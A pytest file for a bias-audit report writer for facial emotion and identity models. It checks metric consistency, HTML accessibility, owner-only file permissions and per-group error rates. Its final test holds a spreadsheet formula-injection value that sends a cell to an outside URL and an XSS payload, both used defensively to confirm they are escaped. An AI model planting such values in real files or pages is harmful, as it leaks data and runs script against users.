"""The report: HTML and JSON written, self-contained, and every number consistent with the data."""
from __future__ import annotations

import base64
import csv
import html
import io
import json
import os
import re

import numpy as np
import pandas as pd
import pytest
from sklearn.metrics import accuracy_score, f1_score, recall_score

from fer_core.render import contrast_ratio
from governance.bias_audit import (
    AuditSettings,
    emotion_metrics,
    load_audit_set,
    run_emotion_audit,
    run_identity_audit,
    write_report,
)
from tests.support.bias_audit import CLASSES, planted_classifier, write_cohorts


@pytest.fixture(scope="module")
def audit(tmp_path_factory):
    root = tmp_path_factory.mktemp("set")
    manifest = write_cohorts(root, {"a": (200, 10), "b": (200, 70), "small": (12, 3)},
                             fills={"a": (90, 90, 90), "b": (160, 120, 100), "small": (200, 200, 200)})
    return run_emotion_audit(samples=load_audit_set(manifest), predict=planted_classifier, classes=CLASSES,
                             settings=AuditSettings(n_boot=300))


@pytest.fixture(scope="module")
def written(audit, tmp_path_factory):
    return write_report(audit, tmp_path_factory.mktemp("report"))


def _no_nan(token):
    raise AssertionError(f"JSON holds {token}")


def test_files_are_written(written):
    assert written.html.name == "emotion_bias_audit.html"
    assert written.json.name == "emotion_bias_audit.json"
    assert written.rows.name == "emotion_bias_audit_rows.csv"
    for path in (written.html, written.json, written.rows):
        assert path.stat().st_size > 0


def test_json_is_strict_and_equals_the_audit(audit, written):
    numbers = json.loads(written.json.read_text(), parse_constant=_no_nan)
    expected = json.loads(json.dumps(audit.to_dict()))
    numbers.pop("generated")
    assert numbers == expected
    assert numbers["flags"][0]["column"] == "cohort" and numbers["flags"][0]["group"] == "b"


def test_json_numbers_match_scikit_learn_on_the_rows(written):
    numbers = json.loads(written.json.read_text())
    rows = pd.read_csv(written.rows)
    labels, predicted = rows["label"], rows["predicted"]
    assert numbers["overall"]["accuracy"]["value"] == pytest.approx(accuracy_score(labels, predicted))
    for group, part in rows.groupby("cohort"):
        entry = numbers["columns"]["cohort"]["groups"][group]
        assert entry["size"] == len(part)
        assert entry["metrics"]["accuracy"]["value"] == pytest.approx(accuracy_score(part["label"], part["predicted"]))
        assert entry["metrics"]["macro_f1"]["value"] == pytest.approx(
            f1_score(part["label"], part["predicted"], labels=list(CLASSES), average="macro")
        )
        assert entry["metrics"]["recall[sad]"]["value"] == pytest.approx(
            recall_score(part["label"], part["predicted"], labels=["sad"], average="macro")
        )
        assert entry["metrics"]["predicted_rate[happy]"]["value"] == pytest.approx((part["predicted"] == "happy").mean())
        assert np.array(entry["table"]).sum() == len(part)
        low, high = entry["metrics"]["accuracy"]["ci"]
        assert low <= entry["metrics"]["accuracy"]["value"] <= high


def test_group_sizes_add_up_in_every_column(written):
    numbers = json.loads(written.json.read_text())
    for name, column in numbers["columns"].items():
        assert sum(g["size"] for g in column["groups"].values()) + column["not_measured"] == numbers["size"], name


def test_count_formulas_agree_with_metricframe_values(audit):
    specs = {s.name: s for s in emotion_metrics(CLASSES)}
    checked = 0
    for column in audit.columns:
        for group in column.groups:
            for name, estimate in group.metrics.items():
                from_counts = float(specs[name].on_tables(group.table))
                if np.isnan(estimate.value):
                    assert np.isnan(from_counts)
                else:
                    assert from_counts == pytest.approx(estimate.value), (column.column, group.name, name)
                checked += 1
    assert checked > 50


def test_macro_f1_skips_a_class_a_group_never_saw_like_scikit_learn():
    spec = {s.name: s for s in emotion_metrics(CLASSES)}["macro_f1"]
    y_true, y_pred = np.array([0, 0, 1, 1]), np.array([0, 1, 1, 1])  # no sad or surprise at all
    table = np.zeros((4, 4), dtype=int)
    np.add.at(table, (y_true, y_pred), 1)
    assert float(spec.on_tables(table)) == pytest.approx(spec.on_labels(y_true, y_pred))
    assert float(spec.on_tables(table)) == pytest.approx((2 / 3 + 0.8) / 2)


def test_html_is_self_contained_with_plots(written):
    page = written.html.read_text()
    assert not re.search(r"(src|href)=['\"](?!data:)", page), "the page must not load anything"
    images = re.findall(r"src='data:image/png;base64,([^']+)'", page)
    # overall confusion + per comparable column (cohort, illumination, source): 3 bar charts + confusion grid
    assert len(images) >= 5
    assert all(base64.b64decode(b)[:8] == b"\x89PNG\r\n\x1a\n" for b in images)
    assert "<span class='flag'>cohort = b</span>" in page
    assert "shown but not compared (fewer than 30 faces): small" in page


def _six_digits(colour: str) -> str:
    return colour if len(colour) == 7 else "#" + "".join(2 * c for c in colour[1:])


def test_every_text_colour_of_the_html_report_is_readable_with_low_vision(written):
    """The rows of groups too small to compare were #888 on white, 3.5:1: under WCAG AA's 4.5:1 for text. Every text
    colour of the report is checked on the page's white and on the flagged rows' background."""
    style = written.html.read_text().split("<style>")[1].split("</style>")[0]
    colours = {_six_digits(c) for c in re.findall(r"(?<![-\w])color:\s*(#[0-9a-f]{3,6})\b", style)}
    backgrounds = {"#ffffff", *(_six_digits(c) for c in re.findall(r"background:\s*(#[0-9a-f]{3,6})\b", style))}
    assert len(colours) >= 3 and len(backgrounds) >= 2, style
    for text in colours:
        for background in backgrounds:
            assert contrast_ratio(text, background) >= 4.5, (text, background)


def test_html_shows_the_json_numbers(audit, written):
    page = written.html.read_text()
    accuracy = audit.overall.overall["accuracy"]
    assert f"{accuracy.value:.3f} [{accuracy.low:.3f}, {accuracy.high:.3f}]" in page


def test_each_bar_chart_is_said_in_words_with_every_bar_s_value(audit, written):
    """A screen reader heard "cohort predicted rates" for the chart of how often each emotion is predicted in each
    group, figures no table of the report repeats. Each chart's text alternative now gives every bar's value."""
    alts = [html.unescape(alt) for alt in re.findall(r"<img alt='([^']*)'", written.html.read_text())]
    (rates,) = [alt for alt in alts if alt.startswith("Bar chart, rate each emotion is predicted, by cohort.")]
    (column,) = [c for c in audit.columns if c.column == "cohort"]
    for group in column.groups:
        for emotion in CLASSES:
            estimate = group.metrics[f"predicted_rate[{emotion}]"]
            assert f"predicted_rate[{emotion}] {estimate.value:.3f} [{estimate.low:.3f}, {estimate.high:.3f}]" in rates
    assert "small (n=12, too small to compare): " in rates
    charted = [c for c in audit.columns if len(c.groups) >= 2]  # a column of one group has no chart
    assert sum(alt.startswith("Bar chart, recall of each emotion, by ") for alt in alts) == len(charted) >= 2


def test_each_confusion_matrix_is_said_in_words_with_every_count(audit, written):
    """A screen reader heard "cohort confusion matrices" for the counts of each true emotion predicted as each
    emotion, group by group, which no table of the report repeats. Each matrix's text alternative now gives them
    all, row by row (the true emotion), in the order of the columns (the predicted one)."""
    alts = [html.unescape(alt) for alt in re.findall(r"<img alt='([^']*)'", written.html.read_text())]
    (matrices,) = [alt for alt in alts if alt.startswith("Confusion matrices by cohort, ")]
    (column,) = [c for c in audit.columns if c.column == "cohort"]
    for group in column.groups:
        rows = "; ".join(f"true {true}: " + ", ".join(f"{predicted} {count}" for predicted, count in zip(CLASSES, row))
                         for true, row in zip(CLASSES, group.table))
        assert f"{group.name} (n={group.size}{'' if group.eligible else ', too small to compare'}): {rows}." in matrices
    assert "small (n=12, too small to compare): true " in matrices
    (overall,) = [alt for alt in alts if alt.startswith("Confusion matrix, all faces, ")]
    (everyone,) = audit.overall.groups
    assert everyone.table.sum() == 412
    assert f"true {CLASSES[0]}: {CLASSES[0]} {everyone.table[0, 0]}, " in overall


def test_the_report_is_readable_by_its_owner_only_whatever_the_umask(audit, tmp_path):
    # Its rows give each photo's path, emotion and skin tone band; under umask 002 they were 0664 in a 0775 folder.
    previous = os.umask(0o002)
    try:
        paths = write_report(audit, tmp_path / "reports" / "today")
    finally:
        os.umask(previous)
    assert {path.name: oct(path.stat().st_mode & 0o777) for path in (paths.html, paths.json, paths.rows)} == {
        path.name: "0o600" for path in (paths.html, paths.json, paths.rows)}
    assert [oct(folder.stat().st_mode & 0o777) for folder in (tmp_path / "reports", tmp_path / "reports" / "today")] == [
        "0o700", "0o700"]


def test_a_report_written_again_keeps_the_mode_its_owner_gave_each_file(audit, tmp_path):
    # Written again, each file is a new one put over the old (a power cut leaves one report whole): a file made
    # readable by the owner's group keeps that, as it did when it was opened "w" in place.
    paths = write_report(audit, tmp_path / "reports")
    paths.html.chmod(0o640)
    paths = write_report(audit, tmp_path / "reports")
    assert [oct(path.stat().st_mode & 0o777) for path in (paths.html, paths.json, paths.rows)] == [
        "0o640", "0o600", "0o600"]


def test_identity_report_has_error_rates_per_group(tmp_path):
    trials = pd.DataFrame({
        "genuine": [True] * 40 + [False] * 40 + [True] * 40 + [False] * 40,
        "score": [0.3] * 36 + [0.7] * 4 + [0.9] * 40 + [0.3] * 30 + [0.7] * 10 + [0.9] * 38 + [0.4] * 2,
        "gender": ["female"] * 80 + ["male"] * 80,
    })
    audit = run_identity_audit(trials=trials, threshold=0.5, score_kind="distance", settings=AuditSettings(n_boot=200))
    paths = write_report(audit, tmp_path)
    numbers = json.loads(paths.json.read_text())
    female = numbers["columns"]["gender"]["groups"]["female"]["metrics"]
    male = numbers["columns"]["gender"]["groups"]["male"]["metrics"]
    assert female["false_non_match_rate"]["value"] == pytest.approx(4 / 40)
    assert male["false_non_match_rate"]["value"] == pytest.approx(10 / 40)
    assert female["false_match_rate"]["value"] == 0.0 and male["false_match_rate"]["value"] == pytest.approx(2 / 40)
    assert numbers["context"]["genuine_trials"] == 80
    assert paths.html.name == "identity_bias_audit.html" and "false_non_match_rate" in paths.html.read_text()


def test_manifest_cells_are_text_in_the_rows_csv_and_in_the_html_report(tmp_path):
    # A group column and its values come from the audit set's manifest: never a formula in the rows a spreadsheet
    # opens, never markup in the report.
    link, markup = '=HYPERLINK("http://example.org/?"&A2,"open")', "<img src=x onerror=alert(1)>"
    trials = pd.DataFrame({
        "genuine": [True, False] * 40,
        "score": [0.3, 0.9] * 40,
        "@group": [link] * 40 + [markup] * 40,
    })
    audit = run_identity_audit(trials=trials, threshold=0.5, score_kind="distance", settings=AuditSettings(n_boot=100))
    paths = write_report(audit, tmp_path)
    rows = list(csv.reader(io.StringIO(paths.rows.read_text(encoding="utf-8"))))
    assert "'@group" in rows[0]
    column = rows[0].index("'@group")
    assert {row[column] for row in rows[1:]} == {"'" + link, markup}
    page = paths.html.read_text(encoding="utf-8")
    assert markup not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
